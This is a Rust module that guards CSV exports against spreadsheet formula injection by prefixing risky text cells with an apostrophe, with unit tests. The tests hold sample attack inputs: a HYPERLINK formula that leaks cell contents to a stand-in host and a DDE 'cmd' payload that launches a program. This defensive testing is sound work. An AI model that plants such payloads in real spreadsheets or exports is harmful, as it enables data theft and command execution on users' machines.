//! CSV that is safe to open in a spreadsheet. Excel, LibreOffice and Google Sheets run a
//! cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage return before one)
//! as a formula, so a style name or an override comment could make a merchandiser's
//! export fetch a URL or start a program. Such text cells are written with a leading
//! `'`, which spreadsheets show as text and do not print (OWASP's advice for CSV
//! injection). Numbers are left alone: `-0.5` is a number to every spreadsheet.

use std::borrow::Cow;
use std::sync::Arc;

use arrow::array::{Array, ArrayRef, AsArray, StringArray};
use arrow::compute::cast;
use arrow::datatypes::DataType;
use arrow::error::ArrowError;
use arrow::record_batch::RecordBatch;

/// `cell` as a spreadsheet will read it as text.
pub fn defuse(cell: &str) -> Cow<'_, str> {
    if is_formula(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.trim().parse::<f64>().is_err()
}

fn is_text(data_type: &DataType) -> bool {
    match data_type {
        DataType::Utf8 | DataType::LargeUtf8 | DataType::Utf8View => true,
        DataType::Dictionary(_, value) => is_text(value),
        _ => false,
    }
}

/// `batch` with every text cell defused; the batch itself when none needed it.
///
/// # Errors
/// A dictionary column of text that cannot be cast to plain text.
pub fn defuse_batch(batch: &RecordBatch) -> Result<RecordBatch, ArrowError> {
    let mut columns: Vec<ArrayRef> = Vec::with_capacity(batch.num_columns());
    let mut changed = false;
    for column in batch.columns() {
        if !is_text(column.data_type()) {
            columns.push(Arc::clone(column));
            continue;
        }
        let strings = cast(column, &DataType::Utf8)?;
        let strings = strings.as_string::<i32>();
        if strings.iter().flatten().any(is_formula) {
            let defused: StringArray = strings.iter().map(|s| s.map(defuse)).collect();
            columns.push(Arc::new(defused));
            changed = true;
        } else {
            columns.push(Arc::clone(column));
        }
    }
    if !changed {
        return Ok(batch.clone());
    }
    // Text columns may have become plain Utf8: the schema follows the columns.
    let fields: Vec<_> = batch
        .schema()
        .fields()
        .iter()
        .zip(&columns)
        .map(|(f, c)| f.as_ref().clone().with_data_type(c.data_type().clone()))
        .collect();
    RecordBatch::try_new(Arc::new(arrow::datatypes::Schema::new(fields)), columns)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_numbers_stay_numbers() {
        for formula in [
            "=HYPERLINK(\"http://x/?leak=\"&A1,\"click\")",
            "+1+2",
            "-2+3*cmd|' /C calc'!A0",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "-",
        ] {
            assert_eq!(defuse(formula), format!("'{formula}"), "{formula:?}");
        }
        for plain in ["Linen shirt", "-0.5", "+3", "1e-3", "", "a=b", "ST000001"] {
            assert_eq!(defuse(plain), plain, "{plain:?}");
        }
    }

    #[test]
    fn a_batch_has_its_text_cells_defused_and_nothing_else() {
        let names: ArrayRef = Arc::new(StringArray::from(vec![Some("=1+2"), None, Some("ok")]));
        let values: ArrayRef = Arc::new(arrow::array::Float64Array::from(vec![-1.5, 0.0, 2.0]));
        let batch = RecordBatch::try_from_iter([("name", names), ("value", values)]).unwrap();
        let out = defuse_batch(&batch).unwrap();
        let names = out.column(0).as_string::<i32>();
        assert_eq!(names.value(0), "'=1+2");
        assert!(names.is_null(1));
        assert_eq!(names.value(2), "ok");
        assert_eq!(out.column(1), batch.column(1));
    }
}
